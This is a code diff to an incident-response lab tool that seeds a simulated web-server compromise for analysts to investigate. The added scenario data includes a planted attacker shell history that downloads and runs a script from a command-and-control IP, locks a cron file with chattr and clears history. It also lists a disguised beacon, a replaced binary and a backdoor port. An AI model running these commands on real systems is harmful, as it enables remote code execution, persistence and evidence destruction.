@@ -14,11 +14,24 @@ from typing import Any
 from ircli.core.clock import Clock
 from ircli.core.session import AwsSession, AwsSettings
 from ircli.lab import findings
+from ircli.lab.sandbox import HostScenario, lab_host
 from ircli.lab.server import LAB_KEYS
 from ircli.lab.web_compromise import ASSUME_EC2, lab_image, seed_web_compromise
 
 EVIDENCE_BUCKET = "ircli-lab-evidence"
 ANALYST_ROLE = "ircli-lab-analyst"
+C2_IP = "185.220.101.66"
+# The tag that tells the lab's agent which scenario host an instance is (lab only).
+HOST_TAG = "ircli-lab:host"
+# What the attacker left on each scenario's compromised host (planted by ircli.lab.sandbox).
+HOSTS: dict[str, HostScenario] = {
+    "web-compromise": HostScenario(
+        "web-1", c2=(C2_IP, 443), beacon="kworkerd", replaced_binary="/usr/bin/top",
+        backdoor_port=31337, attacker_key_comment=f"kworkerd@{C2_IP}",
+        history=("id", "uname -a", f"curl -fsS http://{C2_IP}/k.sh -o /tmp/k.sh",
+                 "sh /tmp/k.sh", "chattr +i /etc/cron.d/kworkerd", "history -c"),
+        description=f"a web server whose implant kworkerd beacons to {C2_IP}:443"),
+}
 
 
 @dataclass
@@ -89,6 +102,8 @@ def evidence_bucket(aws: LabAws) -> tuple[str, list[str]]:
 @scenario("web-compromise", "A web server in an Auto Scaling group talks to a C2 server.")
 def web_compromise(aws: LabAws, clock: Clock) -> Seeded:
     lab = seed_web_compromise(aws, aws.region)
+    aws("ec2").create_tags(Resources=[lab.suspect], Tags=[
+        {"Key": HOST_TAG, "Value": "web-compromise"}])
     bucket, notes = evidence_bucket(aws)
     alert = findings.c2_activity(_instance(aws, lab.suspect), aws.region, clock.now())
     return Seeded("web-compromise", aws.region, lab.to_dict(), [alert], bucket, notes)
@@ -133,6 +148,29 @@ def ssh_brute_force(aws: LabAws, clock: Clock) -> Seeded:
     return Seeded("ssh-brute-force", aws.region,
                   {"vpc_id": vpc, "subnet_id": subnet, "bastion": bastion, "network_acl": nacl,
                    "attacker_ip": attacker}, [alert], bucket, notes)
+
+
+def host_resolver(ec2: Any) -> Callable[[str], Any]:
+    """For the lab's agent: each instance's host — its scenario's compromised host when the
+    instance carries the lab's host tag, otherwise a clean host named after its Name tag."""
+    cache: dict[str, Any] = {}
+
+    def resolve(instance_id: str) -> Any:
+        if instance_id not in cache:
+            try:
+                found = ec2.describe_instances(InstanceIds=[instance_id])["Reservations"]
+                tags = {t["Key"]: t["Value"] for t in found[0]["Instances"][0].get("Tags", [])}
+            except Exception:  # an id the emulator does not know: still never this machine
+                tags = {}
+            spec = HOSTS.get(tags.get(HOST_TAG, ""))
+            if spec is None:
+                name = "".join(c if c.isalnum() or c in "-." else "-"
+                               for c in tags.get("Name", instance_id))[:63] or "host"
+                spec = HostScenario(name)
+            cache[instance_id] = lab_host(spec)
+        return cache[instance_id]
+
+    return resolve
 
 
 def seed(name: str, aws: LabAws, clock: Clock) -> Seeded:
